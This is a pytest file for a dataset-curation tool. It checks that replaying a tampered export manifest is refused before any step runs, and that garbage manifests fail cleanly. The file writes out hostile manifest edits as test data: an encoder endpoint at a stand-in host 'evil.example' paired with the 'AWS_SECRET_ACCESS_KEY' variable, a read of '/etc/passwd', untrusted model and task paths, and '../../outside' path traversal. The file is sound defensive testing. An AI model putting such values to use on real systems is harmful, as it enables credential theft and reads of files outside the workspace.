"""A manifest that a stranger wrote: it may say what it likes, and only what computes the same anywhere is run."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson
import pytest

import tamis
from tamis.cli.main import run
from tamis.errors import CurationError
from tests.pages.page_workspace import alpaca_file, import_file, run_pipeline

Change = Callable[[dict[str, Any]], object]


@pytest.fixture(scope="module")
def export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The manifest of an honest export of a selection."""
    folder = tmp_path_factory.mktemp("export")
    dataset_id = import_file(folder / "workspace", alpaca_file(folder))
    run_pipeline(folder / "workspace", dataset_id)
    assert run(["--workspace", str(folder / "workspace"), "export", "--dataset", dataset_id, "--selection", "newest",
                "--out", str(folder / "subset.jsonl")]) == 0  # fmt: skip
    return folder / "subset.jsonl.manifest.json"


def _step(manifest: dict[str, Any], name: str) -> dict[str, Any]:
    return next(one for one in manifest["artifacts"] if one["step"] == name)


def _to_endpoint(manifest: dict[str, Any]) -> None:
    _step(manifest, "embed")["options"] |= {
        "encoder": "openai",
        "encoder_options": {
            "base_url": "https://evil.example/v1",
            "api_key_variable": "AWS_SECRET_ACCESS_KEY",
        },
    }


def _to_any_model(manifest: dict[str, Any]) -> None:
    options = {"encoder": "sentence_transformer", "encoder_options": {"model": "/tmp/evil"}}
    _step(manifest, "embed")["options"] |= options


def _to_a_hub(manifest: dict[str, Any]) -> None:
    _step(manifest, "import")["options"]["files"][0]["path"] = "hub:evil/data"


def _to_asking(manifest: dict[str, Any]) -> None:
    options = {"scorer": "pmi", "llm": "openai", "llm_options": {"base_url": "https://evil.example"}}
    _step(manifest, "embed").update(step="score", kind="scores", options=options)


def _to_files(manifest: dict[str, Any]) -> None:
    options = {"scorer": "contamination", "scorer_options": {"files": ["/etc/passwd"]}}
    _step(manifest, "embed").update(step="score", kind="scores", options=options)


def _to_training(manifest: dict[str, Any]) -> None:
    _step(manifest, "embed").update(
        step="finetune", kind="adapter", options={"lm_eval_tasks": ["/tmp/evil.yaml"]}
    )


def _to_above(manifest: dict[str, Any]) -> None:
    for one in manifest["artifacts"]:
        one["dataset_id"] = "../../outside"


def _to_elsewhere(manifest: dict[str, Any]) -> None:
    _step(manifest, "embed")["artifact_id"] = "/tmp/outside"


CHANGES: list[Change] = [
    _to_endpoint, _to_any_model, _to_a_hub, _to_asking, _to_files, _to_training, _to_above, _to_elsewhere,
]  # fmt: skip


@pytest.mark.parametrize("change", CHANGES, ids=lambda one: one.__name__.strip("_"))
def test_what_reaches_out_is_refused_before_anything_runs(
    export: Path,
    tmp_path: Path,
    change: Change,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    manifest = orjson.loads(export.read_bytes())
    change(manifest)
    path = tmp_path / "evil.manifest.json"
    path.write_bytes(orjson.dumps(manifest))
    monkeypatch.setattr("tamis.actions.replay.execute", lambda *_, **__: pytest.fail("a step was run"))
    assert run(["--workspace", str(tmp_path / "w"), "replay", str(path)]) != 0
    said = capsys.readouterr().err
    assert "The manifest asks for" in said
    assert "--trust" in said
    assert "Traceback" not in said
    assert not list(tmp_path.glob("**/outside*"))


def test_an_honest_manifest_is_replayed_and_its_steps_said_first(
    export: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["--workspace", str(tmp_path / "w"), "replay", str(export)]) == 0
    out = capsys.readouterr()
    assert "The manifest asks for: import (examples)" in out.err
    assert "Identical" in out.out


@pytest.mark.parametrize("content", [b"", b"{}", b"[]", b"\x00\xff", b'{"artifacts": 7}', b"[" * 100_000])
def test_garbage_is_one_sentence(tmp_path: Path, content: bytes, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "garbage.manifest.json"
    path.write_bytes(content)
    assert run(["--workspace", str(tmp_path / "w"), "replay", str(path)]) != 0
    said = capsys.readouterr().err
    assert "is not a manifest of an export" in said
    assert "Traceback" not in said
    with pytest.raises(CurationError):
        tamis.replay(path, progress=False)
